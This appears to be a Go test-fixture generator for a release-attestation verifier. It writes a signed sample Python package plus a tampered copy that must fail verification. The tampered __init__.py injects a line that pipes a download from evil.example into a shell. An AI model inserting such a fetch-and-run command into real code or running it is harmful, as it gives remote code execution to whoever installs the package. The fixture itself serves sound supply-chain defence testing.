// SPDX-License-Identifier: BSD-3-Clause

// Command generate makes the sample release beside it: two distributions of a
// package that does not exist, signed by a Sigstore that does not exist, with
// the trusted root and the policy that belong to them; and the same release
// with a source distribution that was changed after it was attested. Keys are
// thrown away, so each run makes other signatures:
//
//	go run ./testdata/sample/generate
package main

import (
	"crypto/sha256"
	"encoding/hex"
	"log"
	"os"
	"path/filepath"

	"github.com/scientific-python/sallyport/internal/disttest"
	st "github.com/scientific-python/sallyport/internal/sigstoretest"
)

const policy = `# What is expected of this project's releases.
project: samplepkg
publisher:
  repository: octo-sci/samplepkg
  repository-id: 100200300
  owner-id: 400500
  workflow: release.yml
  environment: pypi
require: [provenance, publish]
`

func main() {
	log.SetFlags(0)
	dir := filepath.Join("testdata", "sample")
	if _, err := os.Stat(dir); err != nil {
		log.Fatalf("finding %s: run this in the project's root", dir)
	}
	sigstore, err := st.New(st.PublicGood)
	check(err)
	write(filepath.Join(dir, "trusted_root.json"), sigstore.TrustedRoot())
	write(filepath.Join(dir, "sallyport.yml"), []byte(policy))
	for _, d := range []string{"dist", "tampered"} {
		check(os.RemoveAll(filepath.Join(dir, d)))
		check(os.MkdirAll(filepath.Join(dir, d), 0o755))
	}
	claims := st.GitHubClaims()
	options := disttest.Options{Name: "samplepkg", Version: "1.0.0", Files: []disttest.File{{Path: "samplepkg/__init__.py", Data: "answer = 42\n"}}}
	changed := options
	changed.Files = []disttest.File{{Path: "samplepkg/__init__.py", Data: "answer = 42; import os; os.system('curl evil.example | sh')\n"}}
	sdist, data := disttest.Sdist(options)
	_, other := disttest.Sdist(changed)
	attest(sigstore, claims, dir, sdist, data, other)
	wheel, data := disttest.Wheel(options)
	attest(sigstore, claims, dir, wheel, data, data)
}

// attest writes a distribution with its attestations into dist, and what it
// became into tampered.
func attest(sigstore *st.Instance, claims st.Claims, dir, name string, data, tampered []byte) {
	sum := sha256.Sum256(data)
	subject := st.Subject{Name: name, SHA256: hex.EncodeToString(sum[:])}
	provenance, err := sigstore.Sign(st.Provenance(claims, subject), claims, st.SignOptions{})
	check(err)
	publish, err := sigstore.Sign(st.Publish(subject), claims.WithEnvironment("pypi"), st.SignOptions{})
	check(err)
	for folder, content := range map[string][]byte{"dist": data, "tampered": tampered} {
		path := filepath.Join(dir, folder, name)
		write(path, content)
		write(path+".slsa.attestation", provenance.PEP740())
		write(path+".publish.attestation", publish.PEP740())
	}
}

func write(path string, data []byte) { check(os.WriteFile(path, data, 0o644)) }

func check(err error) {
	if err != nil {
		log.Fatal(err)
	}
}
